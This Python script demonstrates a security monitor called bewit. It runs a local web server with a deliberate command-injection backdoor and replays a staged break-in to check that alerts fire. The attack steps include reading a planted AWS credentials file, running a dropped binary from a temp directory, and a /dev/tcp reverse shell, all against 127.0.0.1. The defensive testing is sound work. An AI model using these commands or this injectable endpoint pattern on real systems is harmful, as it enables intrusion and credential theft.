#!/usr/bin/env python3
"""A small break-in, watched: a web server with a forgotten door runs under `bewit run` with the rules inside the program.

Usage: play.py BEWIT HTTPD. Every action is shown with the alerts that it raised. Exit status 0 when every step was seen, and what is
normal raised nothing.
"""
import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

COLOUR = sys.stdout.isatty()
WAIT_SECONDS = 10


def paint(code: str, text: str) -> str:
    return f"\033[{code}m{text}\033[0m" if COLOUR else text


class Alerts:
    """Reads alerts from bewit's end of a pipe as they come."""

    def __init__(self, descriptor: int):
        self.found: list[dict] = []
        self.changed = threading.Condition()
        self.thread = threading.Thread(target=self.read, args=(descriptor,), daemon=True)
        self.thread.start()

    def read(self, descriptor: int) -> None:
        with os.fdopen(descriptor, encoding="utf-8") as lines:
            for line in lines:
                with self.changed:
                    self.found.append(json.loads(line))
                    self.changed.notify_all()

    def take(self, rule: str | None) -> list[dict]:
        """All alerts since the last call; waits for `rule`."""
        with self.changed:
            if rule is None:
                time.sleep(0.3)
            else:
                self.changed.wait_for(lambda: any(a["rule"] == rule for a in self.found), WAIT_SECONDS)
            taken, self.found = self.found, []
            return taken


def request(port: int, path: str) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=WAIT_SECONDS) as connection:
        connection.sendall(f"GET {path} HTTP/1.0\r\n\r\n".encode())
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    return answer.split(b"\r\n\r\n", 1)[-1].decode(errors="replace").strip()


def show(title: str, action: str, alerts: list[dict]) -> None:
    print()
    print(paint("1", title))
    print(f"  {paint('36', '>')} {action}")
    for alert in alerts:
        colour = "31" if alert["priority"] in ("Critical", "Error") else "33"
        print(f"  {paint(colour, '! ' + alert['priority'] + ': ' + alert['rule'])}")
        fields = {k: v for k, v in alert["output_fields"].items() if v is not None and k in SHOWN}
        print("    " + "  ".join(f"{k}={v}" for k, v in fields.items()))
    if not alerts:
        print(f"  {paint('32', 'no alert')}")


SHOWN = ("fd.name", "proc.name", "proc.pname", "proc.cmdline", "proc.exepath", "evt.type")


def play(bewit: str, httpd: str, home: str) -> bool:
    credentials = os.path.join(home, ".aws", "credentials")
    os.makedirs(os.path.dirname(credentials))
    with open(credentials, "w", encoding="utf-8") as file:
        file.write("[default]\naws_access_key_id = DEMONSTRATION\n")
    dropped = os.path.join(tempfile.gettempdir(), f".update-{os.getpid()}")
    attacker = socket.create_server(("127.0.0.1", 0))
    attacker_port = attacker.getsockname()[1]

    reading, writing = os.pipe()
    server = subprocess.Popen(
        [bewit, "run", "-r", "builtin", "--alerts", f"fd:{writing}", "--", httpd],
        stdout=subprocess.PIPE, text=True, pass_fds=[writing], env={**os.environ, "HOME": home})
    os.close(writing)
    alerts = Alerts(reading)
    port = int(server.stdout.readline())

    print(f"A web server runs under bewit, on port {port} of 127.0.0.1. It has a forgotten door: /debug?run=COMMAND")
    connect_back = f"exec 3<>/dev/tcp/127.0.0.1/{attacker_port}; exec 0<&3; exit"
    steps = [
        ("A visitor looks at the shop", "GET /", None),
        ("An attacker tries the door", "id", "Shell started by a server"),
        ("reads the cloud's credentials", f"cat {credentials}", "Read of cloud credentials"),
        ("drops a program", f"cp /bin/true {dropped} && chmod +x {dropped} && {dropped}", "Program run from a temporary directory"),
        ("and opens a connection to a machine of his own, for a shell", f"bash -c '{connect_back}'", "Reverse shell"),
    ]
    seen_all = True
    try:
        for title, action, rule in steps:
            if rule is None:
                request(port, "/")
            else:
                request(port, "/debug?run=" + urllib.parse.quote(action))
            found = alerts.take(rule)
            show(title, action, found)
            expected = {rule} if rule else set()
            seen_all &= expected <= {a["rule"] for a in found} and (rule is not None or not found)
        request(port, "/quit")
    finally:
        status = server.wait(timeout=WAIT_SECONDS)
        attacker.close()
        if os.path.exists(dropped):
            os.remove(dropped)
    print()
    if seen_all and status == 0:
        print(paint("32", "Every step was seen; the visitor raised nothing; the server ended with its own exit status, 0."))
        return True
    print(paint("31", f"Something was missed (the server's exit status is {status})."))
    return False


def main() -> int:
    bewit, httpd = sys.argv[1:]
    # A server that lies in a temporary directory, as the checkout may, would rightly raise an alert of its own.
    with tempfile.TemporaryDirectory() as home, tempfile.TemporaryDirectory(prefix=".bewit-demo-", dir=pathlib.Path.home()) as place:
        return 0 if play(bewit, shutil.copy(httpd, place), home) else 1


if __name__ == "__main__":
    sys.exit(main())
